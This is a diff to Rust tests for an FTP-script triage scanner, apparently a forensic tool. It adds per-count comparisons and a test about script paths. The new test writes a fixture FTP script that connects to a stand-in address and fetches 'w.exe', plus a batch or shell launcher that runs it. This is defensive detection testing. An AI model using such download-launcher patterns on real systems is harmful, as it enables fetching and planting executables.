@@ -13,6 +13,7 @@ use ftpsift::scan::bounds::{Bounds, Budget, MemoryCap};
 use ftpsift::scan::progress::Progress;
 use ftpsift::scan::request::{Live, ScanRequest};
 use serde_json::Value;
+use std::collections::BTreeSet;
 use std::ops::ControlFlow;
 use std::path::Path;
 use std::sync::atomic::{AtomicU64, Ordering};
@@ -94,7 +95,54 @@ fn a_triage_that_is_not_cut_short_reports_what_a_scan_does() {
         let (code, mut report) = triage(root.path(), &["--threads", threads]);
         assert_eq!(code, Some(1));
         assert!(report["scan"].as_object_mut().unwrap().remove("host").is_some());
-        assert_eq!(timeless(report), scanned, "{threads}");
+        for counted in ["files", "directories", "bytes_read", "scripts", "payloads", "errors"] {
+            let counts = |report: &Value| report["scan"]["counts"][counted].clone();
+            assert_eq!(counts(&report), counts(&scanned), "{threads}: {counted}");
+        }
+        let rules = |report: &Value| -> BTreeSet<String> {
+            let findings = report["findings"].as_array().unwrap().iter();
+            findings.filter_map(|finding| finding["rule"].as_str().map(str::to_owned)).collect()
+        };
+        assert_eq!(rules(&report), rules(&scanned));
+        // It has the names of the host, which on Windows has drives; what lies in a temporary folder is told to do so.
+        if cfg!(unix) {
+            let place = root.path().canonicalize().unwrap().display().to_string();
+            let lead = format!("{}/", place.trim_start_matches('/'));
+            let plain = |report: &Value| {
+                let mut report: Value = serde_json::from_str(&report.to_string().replace(&lead, "")).unwrap();
+                report["scan"]["counts"].as_object_mut().unwrap().remove("findings");
+                report.as_object_mut().unwrap().remove("findings");
+                report
+            };
+            assert_eq!(plain(&timeless(report)), plain(&scanned), "{threads}");
+        }
+    }
+}
+
+/// A folder of the host is not its root: what a batch file says of the place of a script is found all the same.
+#[test]
+fn a_folder_that_is_named_keeps_its_place_on_the_host() {
+    let root = tempfile::tempdir().unwrap();
+    host(root.path(), 0);
+    let folder = root.path().canonicalize().unwrap().join("w");
+    std::fs::create_dir(&folder).unwrap();
+    let script = folder.join("a.txt").display().to_string().replace(r"\\?\", "");
+    std::fs::write(folder.join("a.txt"), "open 192.0.2.7\nuser w pw\nget w.exe\nbye\n").unwrap();
+    let (name, launch) = match cfg!(windows) {
+        true => ("r.bat", format!("ftp -n -s:{script}\r\n")),
+        false => ("r.sh", format!("#!/bin/sh\nlftp -f {script}\n")),
+    };
+    std::fs::write(folder.join(name), launch).unwrap();
+    for named in [folder.clone(), root.path().to_owned()] {
+        let (_, report) = triage(&named, &[]);
+        let launches = report["launches"].as_array().unwrap();
+        let ours = launches.iter().find(|launch| launch["script_path"] == *script).expect("it is found");
+        assert_eq!(ours["scripts"].as_array().unwrap().len(), 1, "{ours}");
+        let paths: Vec<&str> =
+            report["scripts"].as_array().unwrap().iter().filter_map(|script| script["path"].as_str()).collect();
+        assert!(paths.contains(&script.trim_start_matches('/')), "{paths:?}");
+        let findings = report["findings"].as_array().unwrap();
+        assert!(findings.iter().all(|finding| finding["rule"] != "launch.script-gone"), "{findings:?}");
     }
 }
 
